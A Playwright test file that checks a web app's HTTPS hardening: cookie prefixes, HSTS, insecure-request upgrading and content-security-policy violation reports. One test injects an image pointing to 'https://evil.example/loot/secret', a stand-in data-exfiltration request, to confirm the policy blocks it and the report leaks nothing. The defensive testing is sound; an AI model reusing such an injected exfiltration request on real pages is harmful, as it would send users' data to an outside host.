import type { Page } from "@playwright/test";
import { SECURE_DOMAIN } from "../harness/places.ts";
import { expect, test } from "../harness/test.ts";
import { readSession, sessionCookies, signOutWholly } from "../steps/session-cookies.ts";
import { signIn } from "../steps/sign-in-steps.ts";

// What is otherwise where people come by https, as they do in production. The main journeys run so too, see `@https`.

test.describe("by https", { tag: "@https" }, () => {
  test("every cookie of the session has the prefix that no other host of the domain can write", async ({
    page,
    context,
    admin,
  }) => {
    await signIn(page, await admin.createUser(), "/security");
    await expect(page.getByRole("heading", { name: "Second factors", exact: true })).toBeVisible();
    expect((await sessionCookies(context)).length).toBeGreaterThan(0);
    expect(await readSession(context)).toHaveProperty("refresh_token");
    const ours = (await context.cookies()).filter(({ name }) => name.includes("sb-"));
    for (const { name, secure, path, domain } of ours) {
      expect(name).toMatch(/^__Host-sb-/);
      expect({ secure, path, domain }).toEqual({ secure: true, path: "/", domain: SECURE_DOMAIN });
    }
    await signOutWholly(page);
  });

  test("whoever writes the address without the s comes by https all the same", async ({
    page,
    product,
    admin,
  }) => {
    const answer = await page.goto("/sign-in");
    expect(answer?.headers()["strict-transport-security"]).toMatch(/max-age=\d{8}/);
    await signIn(page, await admin.createUser(), "/security");
    await page.goto(product.hostUrl.replace("https:", "http:"));
    expect(new URL(page.url()).origin).toBe(product.hostUrl);
    await expect(page.getByRole("navigation", { name: "Main" })).toBeVisible();
  });

  test("nothing of a page goes without TLS, and what would is raised to it", async ({
    page,
    product,
    admin,
    allowConsole,
  }) => {
    // The picture that is asked for at the end is nowhere.
    allowConsole(/never-there/);
    const asked = watchAddresses(page);
    const answer = await page.goto("/sign-in");
    expect(answer?.headers()["content-security-policy"]).toContain("upgrade-insecure-requests");
    await signIn(page, await admin.createUser(), "/data/flights");
    await expect(page.getByRole("gridcell").first()).not.toBeEmpty();
    await page.getByRole("link", { name: "Security" }).click();
    await expect(page.getByRole("heading", { name: "Second factors", exact: true })).toBeVisible();
    const origins = new Set(asked.map((address) => new URL(address).origin));
    const own = [
      product.hostUrl,
      product.providerUrl,
      ...Object.values(product.remotes).map(({ url }) => url),
    ];
    expect([...origins].sort()).toEqual(own.sort());
    const picture = `http://${new URL(product.hostUrl).host}/never-there.png`;
    await page.evaluate((src) => {
      document.body.append(Object.assign(new Image(), { src }));
    }, picture);
    await expect.poll(() => asked).toContain(picture.replace("http:", "https:"));
    expect(asked.filter((address) => address.startsWith("http:"))).toEqual([]);
  });

  test("what a policy refuses is told to the operator's own address, without what was carried", async ({
    page,
    product,
    allowConsole,
  }) => {
    test.setTimeout(2 * REPORTS_MS);
    // The browser says in its console what it refuses.
    allowConsole(/./);
    product.writeConfig({ violationReportUrl: "/violations" });
    const answer = await page.goto("/system?secret");
    expect(answer?.headers()["reporting-endpoints"]).toBe('csp="/violations"');
    await expect(page.getByRole("heading", { name: "System", exact: true })).toBeVisible();
    await page.evaluate(() => {
      document.body.append(Object.assign(new Image(), { src: "https://evil.example/loot/secret?secret" }));
    });
    const told = () =>
      product.violations.map((line) => {
        const { policy, rule, page: route, blocked, isRefused } = JSON.parse(line) as Record<string, unknown>;
        return { policy, rule, route, blocked, isRefused };
      });
    const refused = { policy: "content", rule: "img-src", blocked: "https://evil.example", isRefused: true };
    await expect.poll(told, { timeout: REPORTS_MS }).toEqual([{ ...refused, route: "/system" }]);
    expect(product.violations.join("\n")).not.toContain("secret");
  });
});

/** A browser that doesn't know how to hurry sends them within a minute. */
const REPORTS_MS = 50_000;

/** Of everything that the page asks a server for. */
function watchAddresses(page: Page): string[] {
  const asked: string[] = [];
  page.on("request", (request) => {
    if (/^https?:/.test(request.url())) asked.push(request.url());
  });
  return asked;
}
